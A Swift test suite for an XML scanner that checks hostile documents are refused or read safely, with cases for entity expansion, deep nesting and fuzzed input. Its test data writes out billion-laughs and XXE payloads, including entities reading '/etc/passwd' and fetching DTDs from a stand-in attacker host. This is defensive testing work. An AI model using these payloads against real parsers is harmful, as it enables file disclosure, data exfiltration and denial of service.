import Foundation
import HIGAuditCore
import Testing

@testable import HIGAuditInterfaceBuilder

/// Hostile documents: entity expansion, external entities, deep nesting, and inputs cut or
/// mangled at random. Each must be refused (or read) quickly, without a crash.
@Suite struct XMLSafetyTests {
    /// How long `body` takes.
    private func duration(_ body: () -> Void) -> Duration {
        ContinuousClock().measure(body)
    }

    @Test func billionLaughsIsRefusedAtTheFirstReference() {
        var lines = [
            "<?xml version=\"1.0\"?>",
            "<!DOCTYPE lolz [",
            " <!ENTITY lol \"lol\">",
            " <!ELEMENT lolz (#PCDATA)>",
        ]
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            lines.append(" <!ENTITY lol\(level) \"\(String(repeating: "&\(previous);", count: 10))\">")
        }
        lines += ["]>", "<lolz>&lol9;</lolz>"]
        let bytes = Array(lines.joined(separator: "\n").utf8)
        var error: XMLSyntaxError?
        let elapsed = duration { error = XMLTesting.syntaxError(bytes) }
        #expect(error == XMLSyntaxError(problem: .undefinedEntity("lol9"), line: 15, column: 7))
        #expect(elapsed < .seconds(2), "bounded work: a liveness bound, generous for a loaded machine")
    }

    @Test func billionLaughsInAnAttributeIsRefusedToo() {
        let document = """
            <!DOCTYPE a [<!ENTITY x "&y;&y;"><!ENTITY y "&x;&x;">]>
            <a v="&x;"/>
            """
        XMLTesting.expectError(document, .undefinedEntity("x"), line: 2, column: 7)
    }

    @Test func quadraticBlowupIsRefusedAtTheFirstReference() {
        let big = String(repeating: "x", count: 100_000)
        let document = "<!DOCTYPE kaboom [<!ENTITY a \"\(big)\">]>\n<kaboom>" + String(repeating: "&a;", count: 10_000) + "</kaboom>"
        XMLTesting.expectError(document, .undefinedEntity("a"), line: 2, column: 9)
    }

    @Test func aDocumentDeclaringAnExternalEntityIsRefusedWhereItDeclaresIt() {
        let document = """
            <?xml version="1.0" encoding="ISO-8859-1"?>
            <!DOCTYPE foo [
              <!ELEMENT foo ANY >
              <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
            <foo>&xxe;</foo>
            """
        XMLTesting.expectError(document, .externalEntity("xxe"), line: 4, column: 3)
        XMLTesting.expectError(
            "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"-//X//Y\" \"http://attacker.example/secret\">]><foo/>",
            .externalEntity("xxe"), line: 1, column: 16
        )
        // Declared, even unused: a document that asks for something from outside.
        XMLTesting.expectError("<!DOCTYPE foo [<!ENTITY\txxe\nSYSTEM 'x'>]><foo/>", .externalEntity("xxe"), line: 1, column: 16)
    }

    @Test func externalParameterEntitiesAreRefusedAndAnExternalSubsetIsNeverRead() throws {
        // Out-of-band XXE: the DTD would fetch more declarations.
        let outOfBand = """
            <?xml version="1.0"?>
            <!DOCTYPE data [
              <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
              %remote;
              %init;
            ]>
            <data a="1"/>
            """
        XMLTesting.expectError(outOfBand, .externalEntity("remote"), line: 3, column: 3)
        // An internal entity whose text merely says SYSTEM is not external.
        let quoted = try XMLTesting.parse("<!DOCTYPE foo [<!ENTITY note \"SYSTEM\"><!ENTITY % p 'PUBLIC'>]><foo x=\"1\"/>")
        #expect(quoted.attribute("x", of: 0) == "1")
        // The external subset a property list names is never read, and the document is read.
        let external = try XMLTesting.parse("<!DOCTYPE foo SYSTEM \"http://attacker.example/x.dtd\"><foo x=\"&amp;\"/>")
        #expect(external.attribute("x", of: 0) == "&")
    }

    @Test func predefinedEntitiesCannotBeRedefined() throws {
        let document = try XMLTesting.parse("<!DOCTYPE a [<!ENTITY lt \"&#38;#60;boom\"><!ENTITY amp \"boom\">]><a v=\"&lt;&amp;\"/>")
        #expect(document.attribute("v", of: 0) == "<&")
    }

    @Test func deepNestingIsRefusedWithoutRecursionAndQuickly() {
        let bytes = Array(String(repeating: "<a>", count: 100_000).utf8)
        var error: XMLSyntaxError?
        let elapsed = duration { error = XMLTesting.syntaxError(bytes) }
        #expect(error == XMLSyntaxError(problem: .tooDeep(limit: 512), line: 1, column: 512 * 3 + 1))
        #expect(elapsed < .seconds(2), "bounded work: a liveness bound, generous for a loaded machine")
        // With no limit, the scanner reads all 100,000 levels (it keeps them on the heap)
        // and finds the document unfinished.
        let unlimited = XMLScanner(maxDepth: .max)
        XMLTesting.expectError(bytes, .unexpectedEnd, line: 1, column: 300_001, scanner: unlimited)
    }

    @Test func deepDocumentAccessorsDoNotRecurse() throws {
        let levels = 100_000
        let bytes = Array((String(repeating: "<a>", count: levels) + String(repeating: "</a>", count: levels)).utf8)
        let document = try XMLScanner(maxDepth: levels).parse(bytes)
        #expect(document.count == levels)
        #expect(document.depth(of: levels - 1) == levels - 1)
        #expect(document.subtreeEnd(of: 0) == levels)
        #expect(document.subtreeEnd(of: levels - 1) == levels)
        #expect(Array(document.children(of: 0)) == [1])
        #expect(Array(document.children(of: levels - 1)).isEmpty)
        #expect(document.location(of: levels - 1) == XMLTesting.position(line: 1, column: (levels - 1) * 3 + 1))
        var ancestors = 0
        var element = levels - 1
        while let parent = document.parent(of: element) {
            ancestors += 1
            element = parent
        }
        #expect(ancestors == levels - 1)
        #expect(XMLTesting.isConsistent(document))
        XMLTesting.expectError(bytes, .tooDeep(limit: levels - 1), line: 1, column: (levels - 1) * 3 + 1, scanner: XMLScanner(maxDepth: levels - 1))
    }

    @Test func wideDocument() throws {
        let document = try XMLTesting.parse("<a>" + String(repeating: "<b x='1'/>", count: 100_000) + "</a>")
        #expect(Array(document.children(of: 0)).count == 100_000)
        #expect(document.depth(of: 100_000) == 1)
        #expect(document.nextSibling(of: 100_000) == nil)
    }

    /// A small document that uses most of the syntax.
    static let sample = """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE document [ <!ENTITY e "x"> <!-- ] > --> ]>
        <!-- prolog -->
        <document type="com.apple.InterfaceBuilder3.CocoaTouch.Storyboard.XIB" version="3.0">
            <scenes>
                <scene sceneID="a1">
                    <label text="A &amp; B &#10;&#x41;" id='x-1'>
                        <string key="text">Line one
        Line two &lt;&gt; ]] ]></string>
                        <![CDATA[ <not/> & ]]>
                        <?pi data?>
                    </label>
                    <color key="textColor" white="0.5" alpha="1" colorSpace="custom" customColorSpace="genericGamma22GrayColorSpace"/>
                </scene>
            </scenes>
        </document>
        <!-- epilog -->

        """

    @Test func everyTruncationEndsInUnexpectedEnd() throws {
        let bytes = Array(Self.sample.utf8)
        let full = try XMLScanner().parse(bytes)
        #expect(full.count == 6)
        let rootStart = full.byteOffset(of: 0)
        let rootEnd = try #require(Self.sample.range(of: "</document>")).upperBound.utf16Offset(in: Self.sample)
        for length in 0..<bytes.count {
            let prefix = Array(bytes[..<length])
            do throws(XMLSyntaxError) {
                _ = try XMLScanner().parse(prefix)
                #expect(length >= rootEnd, "a prefix of \(length) bytes parsed")
            } catch {
                // Up to the root element, a prefix may hold only a complete prolog.
                let allowed: [XMLSyntaxError.Problem] = length <= rootStart ? [.empty, .unexpectedEnd] : [.unexpectedEnd]
                let end = TextPosition(of: length, in: prefix)
                #expect(allowed.contains(error.problem) && error.line == end.line && error.column == end.column, "prefix of \(length) bytes: \(error)")
            }
        }
    }

    @Test func mangledDocumentsNeverCrashAndReportPlacesInTheDocument() throws {
        let fixture = try XMLTesting.fixtureBytes("netnewswire/iOS/Add/AddFeedSelectFolderTableViewCell.xib")
        var random = XMLTestRandom(seed: 0x5EED)
        let interesting: [UInt8] = Array("<>&;\"'/=![]?-#x: \n\tAa0".utf8) + [0x00, 0x0D, 0x7F, 0x80, 0xBF, 0xC3, 0xE2, 0xED, 0xEF, 0xF0, 0xF4, 0xFF]
        var parsed = 0
        for round in 0..<1500 {
            var bytes = round % 2 == 0 ? Array(Self.sample.utf8) : Array(fixture.prefix(1200))
            for _ in 0...random.next(below: 4) {
                let at = random.next(below: bytes.count)
                switch random.next(below: 5) {
                case 0: bytes[at] = interesting[random.next(below: interesting.count)]
                case 1: bytes.insert(interesting[random.next(below: interesting.count)], at: at)
                case 2: bytes.remove(at: at)
                case 3: bytes.insert(contentsOf: bytes[at..<min(bytes.count, at + random.next(below: 40))], at: random.next(below: bytes.count))
                default: bytes[at] = UInt8(truncatingIfNeeded: random.next(below: 256))
                }
                if bytes.isEmpty { bytes = [0x3C] }
            }
            do throws(XMLSyntaxError) {
                let document = try XMLScanner().parse(bytes)
                parsed += 1
                #expect(XMLTesting.isConsistent(document))
                for element in 0..<document.count {
                    #expect(!document.name(of: element).isEmpty)
                    _ = document.attributes(of: element)
                    #expect(document.location(of: element) == TextPosition(of: document.byteOffset(of: element), in: bytes))
                }
            } catch {
                // Lines end at LF, CRLF or a CR alone.
                let loneCarriageReturns = bytes.indices.count { bytes[$0] == 0x0D && ($0 + 1 == bytes.count || bytes[$0 + 1] != 0x0A) }
                let lines = bytes.count(where: { $0 == 0x0A }) + loneCarriageReturns + 1
                #expect(error.line >= 1 && error.line <= lines && error.column >= 1 && error.column <= bytes.count + 1, "\(error) in \(bytes)")
            }
        }
        // Some mutations (in text, in a comment) keep the document well-formed.
        #expect(parsed > 10)
    }
}

/// A small deterministic random number generator, so that a failure can be reproduced.
struct XMLTestRandom {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }

    /// A number in `0 ..< bound` (0 when `bound` is 0).
    mutating func next(below bound: Int) -> Int {
        bound <= 0 ? 0 : Int(next() % UInt64(bound))
    }
}
